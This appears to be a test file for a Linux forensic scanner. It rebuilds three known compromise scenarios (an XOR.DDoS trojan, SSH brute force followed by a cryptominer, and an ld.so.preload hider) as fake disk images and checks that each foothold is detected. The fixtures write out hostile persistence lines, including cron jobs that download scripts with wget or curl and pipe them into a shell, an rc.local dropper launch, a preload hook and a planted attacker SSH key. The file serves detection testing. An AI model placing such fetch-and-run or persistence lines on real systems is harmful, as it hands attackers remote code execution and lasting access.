import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { after, describe, it } from 'node:test';
import { scanFixture as scan } from './helpers/scan-fixture';
import { FakeRoot } from './helpers/fake-root';

// The incidents of the seed documents (../shared/seeds), rebuilt as offline disk images: the
// Live-CD case. Each must surface the footholds the write-ups found by hand.

const NOW = new Date('2026-11-20T12:00:00Z');
const DAYS_AGO = (d: number) => new Date(NOW.getTime() - d * 86400_000);
const elf = () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4096)]);

function syslogTime(d: Date): string {
  const m = d.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  const day = String(d.getUTCDate()).padStart(2, ' ');
  return `${m} ${day} ${d.toISOString().slice(11, 19)}`;
}

describe('seed incidents, examined offline', () => {
  const roots: FakeRoot[] = [];
  after(() => {
    for (const r of roots) r.remove();
  });

  it('000: XOR.DDoS trojan — init script, rc links, cron.hourly/gcc.sh, a "maill" account', async () => {
    const root = new FakeRoot().base();
    roots.push(root);
    root
      .write('/etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nmaill:x:1001:1001::/home/maill:/bin/bash\n')
      .write('/etc/group', 'root:x:0:\nmaill:x:1001:\n')
      .write('/usr/bin/srstomucra', elf(), { mode: 0o755, mtime: DAYS_AGO(1) })
      .write(
        '/etc/init.d/srstomucra',
        '#!/bin/sh\n# chkconfig: 12345 90 90\n### BEGIN INIT INFO\n# Provides: srstomucra\n### END INIT INFO\ncase $1 in\nstart)\n\t/usr/bin/srstomucra\n\t;;\nesac\n',
        { mode: 0o755, mtime: DAYS_AGO(1) },
      )
      .write(
        '/etc/cron.hourly/gcc.sh',
        "#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n",
        { mode: 0o755, mtime: DAYS_AGO(1) },
      )
      .write('/lib/libudev.so', elf(), { mode: 0o755, mtime: DAYS_AGO(1) })
      .write('/etc/crontab', 'SHELL=/bin/sh\n*/3 * * * * root /etc/cron.hourly/gcc.sh\n', { mtime: DAYS_AGO(1) });
    for (const level of [1, 2, 3, 4, 5]) root.symlink(`/etc/rc${level}.d/S90srstomucra`, '../init.d/srstomucra');
    const { result } = await scan({ root: root.dir, now: NOW });
    const rules = new Set(result.findings.filter((f) => f.severity === 'critical' || f.severity === 'high').map((f) => f.rule));
    for (const r of ['persistence/initd-ddos-pattern', 'files/known-malware-file', 'accounts/lookalike-name'])
      assert.ok(rules.has(r), `${r} missing; got ${[...rules].join(', ')}`);
    assert.ok(
      result.findings.some((f) => f.rule.startsWith('persistence/cron') && /gcc\.sh/.test(`${f.path} ${f.evidence.join(' ')}`)),
      'the cron entry running gcc.sh',
    );
  });

  it('002: SSH brute force, then a password login, a wget|bash cron job, a planted key and a miner', async () => {
    const root = new FakeRoot().base();
    roots.push(root);
    const attacker = '45.148.10.21';
    const lines: string[] = [];
    for (let i = 0; i < 40; i++)
      lines.push(
        `${syslogTime(new Date(DAYS_AGO(2).getTime() + i * 2000))} web01 sshd[${2000 + i}]: Failed password for root from ${attacker} port ${40000 + i} ssh2`,
      );
    lines.push(
      `${syslogTime(new Date(DAYS_AGO(2).getTime() + 90_000))} web01 sshd[2100]: Accepted password for root from ${attacker} port 41234 ssh2`,
    );
    root
      .write('/var/log/auth.log', `${lines.join('\n')}\n`, { mtime: DAYS_AGO(1) })
      .write('/var/spool/cron/crontabs/root', '*/30 * * * * wget -qO- http://185.222.58.10/m.sh | bash\n', { mtime: DAYS_AGO(2) })
      .write(
        '/root/.ssh/authorized_keys',
        'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7nQ6pQKx0K9lG8eSvRZcCq1sYl2tD5mM0xJ9X1hQ0Ww8Gm0l3C5f6e8yJ2a5d7y9R2T4Q6b8c0e2g4i6k8m0o2q4s6u8w0y2A4C6E8G0I2K4M6O8Q0S2U4W6Y8a0c2e4g6i8k0m2o4q6s8u0w2y4A6C8E0G2I4K6M8O0Q2S4U6W8Y0a2c4e6g8i0k2m4o6q8s0u2w4y6A8C0E2G4I6K8M0O2Q4S6U8W0Y2a4c6e8g0i2k4m6o8q0s2u4w6y8 redis@attacker\n',
        { mtime: DAYS_AGO(2) },
      )
      .write('/tmp/.x/xmrig', elf(), { mode: 0o755, mtime: DAYS_AGO(2) });
    const { result } = await scan({ root: root.dir, now: NOW });
    const byRule = (r: string) => result.findings.filter((f) => f.rule === r);
    assert.equal(byRule('logs/ssh-login-after-bruteforce')[0]?.severity, 'critical');
    assert.equal(byRule('logs/ssh-login-after-bruteforce')[0]?.ip, attacker);
    assert.equal(byRule('persistence/cron-download-exec')[0]?.severity, 'critical');
    assert.ok(
      byRule('ssh/authorized-keys-recent').some((f) => f.severity === 'high'),
      'a root key added in the window',
    );
    assert.ok(
      result.findings.some((f) => f.path === '/tmp/.x/xmrig' && f.severity === 'critical'),
      'the miner binary',
    );
    // The story can be told in order: every one of these findings carries a time.
    for (const f of [byRule('logs/ssh-login-after-bruteforce')[0], byRule('persistence/cron-download-exec')[0]])
      assert.match(f.time ?? '', /^2026-11-1\d/);
  });

  it('004: ld.so.preload hider, known dropper paths, a RHEL user crontab with curl', async () => {
    const root = new FakeRoot().base();
    roots.push(root);
    root
      .write('/etc/ld.so.preload', '/usr/local/lib/libs.so\n', { mtime: DAYS_AGO(3) })
      .write('/usr/local/lib/libs.so', elf(), { mtime: DAYS_AGO(3) })
      .write('/tmp/kworkerds', elf(), { mode: 0o755, mtime: DAYS_AGO(3) })
      .write('/var/tmp/1.so', elf(), { mtime: DAYS_AGO(3) })
      .write(
        '/var/spool/cron/root',
        '*/15 * * * * (curl -fsSL https://pastebin.com/raw/xyz || wget -q -O- https://pastebin.com/raw/xyz) | sh\n',
        { mtime: DAYS_AGO(3) },
      )
      .write('/etc/rc.local', '#!/bin/sh -e\nnohup /tmp/kworkerds >/dev/null 2>&1 &\nexit 0\n', { mode: 0o755, mtime: DAYS_AGO(3) });
    const { result } = await scan({ root: root.dir, now: NOW });
    const critical = new Set(result.findings.filter((f) => f.severity === 'critical').map((f) => `${f.rule} ${f.path ?? ''}`));
    for (const expected of [
      'hooks/ld-so-preload /etc/ld.so.preload',
      'files/known-malware-file /tmp/kworkerds',
      'files/known-malware-file /usr/local/lib/libs.so',
      'persistence/cron-download-exec /var/spool/cron/root',
      'persistence/rc-local-command /etc/rc.local',
    ]) {
      assert.ok(critical.has(expected), `${expected} missing; critical: ${[...critical].join(' | ')}`);
    }
    assert.equal(result.target.kind, 'root');
    assert.equal(result.referenceTime, NOW.toISOString());
  });
});
